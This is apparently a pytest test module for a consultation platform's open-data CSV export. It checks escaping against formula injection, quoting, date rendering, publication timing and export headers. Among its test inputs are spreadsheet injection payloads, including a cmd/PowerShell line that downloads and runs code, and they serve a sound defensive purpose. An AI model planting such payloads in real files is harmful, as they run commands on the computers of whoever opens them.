"""Cells and lines: nothing that a spreadsheet runs, everything read back as it was written."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from consult.calendar.rules import Calendar, Stage
from consult.ground.cells import cell, line, neutral
from consult.opendata.rules import may_publish
from consult.opendata.schema import FILES
from consult.register.rules import Kind
from tests.support.world import WINDOWS, closing_of, just_before


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        pytest.param("=1+1", "'=1+1", id="a formula"),
        pytest.param("+33 1 23 45 67 89", "'+33 1 23 45 67 89", id="a telephone number"),
        pytest.param("-5 agents", "'-5 agents", id="a dash"),
        pytest.param("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0", id="an at sign"),
        pytest.param("\t=1+1", "'\t=1+1", id="a tab first"),
        pytest.param("\r=1+1", "'\r=1+1", id="a carriage return first"),
        pytest.param("\n=1+1", "'\n=1+1", id="a line end first"),
        pytest.param("  =1+1", "'  =1+1", id="spaces first"),
        pytest.param("\u00a0=1+1", "'\u00a0=1+1", id="a no-break space first"),
        pytest.param("＝1+1", "'＝1+1", id="full width equals"),
        pytest.param("＋1", "'＋1", id="full width plus"),
        pytest.param("－1", "'－1", id="full width minus"),
        pytest.param("＠SUM", "'＠SUM", id="full width at sign"),
        pytest.param("−5", "'−5", id="a true minus sign"),
        pytest.param("Œuilly — Île-d’Yeu 🏝️", "Œuilly — Île-d’Yeu 🏝️", id="a name"),
        pytest.param("5 agents = 2 services", "5 agents = 2 services", id="an equals sign further on"),
        pytest.param("'déjà", "'déjà", id="an apostrophe already"),
        pytest.param("", "", id="nothing"),
    ],
)
def test_a_text_is_never_a_formula(typed: str, exported: str) -> None:
    assert neutral(typed) == exported


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        pytest.param(None, "", id="nothing"),
        pytest.param(-3, "-3", id="a negative number is a number"),
        pytest.param(0, "0", id="zero is not nothing"),
        pytest.param(Kind.SPECIAL_STATUS, "special_status", id="a code"),
        pytest.param(date(2021, 6, 1), "2021-06-01", id="a day"),
        pytest.param(datetime(2021, 4, 13, 8, 0, 0, 999_999, UTC), "2021-04-13T10:00:00+02:00", id="an instant, in summer"),
        pytest.param(datetime(2021, 1, 25, 8, tzinfo=UTC), "2021-01-25T09:00:00+01:00", id="an instant, in winter"),
    ],
)
def test_what_is_not_text_stays_bare(value: object, exported: str) -> None:
    assert cell(value) == exported  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("values", "record"),
    [
        pytest.param(["a;b", 1], '"a;b",1\r\n', id="a semicolon is quoted"),
        pytest.param(["a,b"], '"a,b"\r\n', id="a comma"),
        pytest.param(['il dit "oui"'], '"il dit ""oui"""\r\n', id="quotes are doubled"),
        pytest.param(["ligne 1\nligne 2"], '"ligne 1\nligne 2"\r\n', id="a line end stays inside its cell"),
        pytest.param(["a", None, "b"], "a,,b\r\n", id="an empty cell"),
        pytest.param(["=cmd|'/C powershell IEX(wget x)'!A0"], "'=cmd|'/C powershell IEX(wget x)'!A0\r\n", id="a header too"),
    ],
)
def test_a_record(values: list[object], record: str) -> None:
    assert line(values) == record  # type: ignore[arg-type]


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=("Cs",))), min_size=2, max_size=6))
def test_any_record_is_read_back_by_another_program(values: list[str]) -> None:
    text = line(values)
    assert text.endswith("\r\n")
    read = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert read == [[neutral(value) for value in values]]
    assert not any(found.lstrip()[:1] in ("=", "+", "-", "@") for found in read[0])


def test_the_ballot_file_waits_for_the_close_and_nothing_else_does() -> None:
    calendar = Calendar(WINDOWS)
    closes = closing_of(Stage.VOTING)
    early = {name for name in FILES if may_publish(name, calendar, just_before(closes))}
    assert early == set(FILES) - {"supports", "vote_journal"}
    assert all(may_publish(name, calendar, closes) for name in FILES)


def test_the_names_that_are_out_stay() -> None:
    assert {name: ", ".join(file.headers) for name, file in FILES.items()} == {
        "contributions": "number, type, title, situation, audience, effects, themes, status, status_reason, scheme, proposals, "
        "collectivite_siren, collectivite_name, collectivite_kind, insee, departement, region, population_stratum, profile, "
        "function, me_too_count, published_at, url",
        "proposals": "number, title, summary, contributions, supports, rank, decision, decision_reason, url, "
        "decision_explanation, recusals, current_decision, correction_reason, corrected_at",
        "supports": "proposal, collectivite_siren, collectivite_kind, departement, population_stratum, given_at, receipt",
        "vote_journal": "position, at, act, proposal, collectivite_siren, collectivite_kind, departement, population_stratum, "
        "receipt, replaces, counts, seal",
        "interests": "number, proposal, collectivite_siren, collectivite_name, collectivite_kind, departement, region, "
        "population_stratum, level, status, charter, submitted_at, decided_at, waiting_rank",
        "workshops": "number, proposal, title, about, starts_at, ends_at, place, online, capacity, seats, collectivites, "
        "cancelled_at, cancel_reason, notes_at, notes, url",
        "services": "number, name, summary, proposal, born_at, reason, phase, phase_entered_at, phase_reason, deployments, "
        "url, contributions, bearers, trials, in_use, last_news_at, site, repository, licence, accessibility, security, "
        "statistics, rate, cost, state_share, others, engaged, paid",
        "phases": "service, phase, entered_on, recorded_at, reason, learnt",
        "milestones": "service, title, set_at, due_on, done_on, first_due_on, moves, last_move_reason, dropped_at, drop_reason",
        "money": "service, kind, amount, day, label, status, published_at, cancelled_at, cancel_reason",
        "indicators": "service, indicator, name, definition, unit, baseline, baseline_on, target, target_on, measures, "
        "ended_at",
        "measures": "service, indicator, day, value, note, recorded_at",
        "deployments": "service, collectivite_siren, collectivite_name, collectivite_kind, departement, region, "
        "population_stratum, status, since, declared_at, confirmed_at",
        "calendar_changes": "changed_at, stage, old_opens_at, old_closes_at, new_opens_at, new_closes_at, reason, "
        "tallies_readable_since",
    }
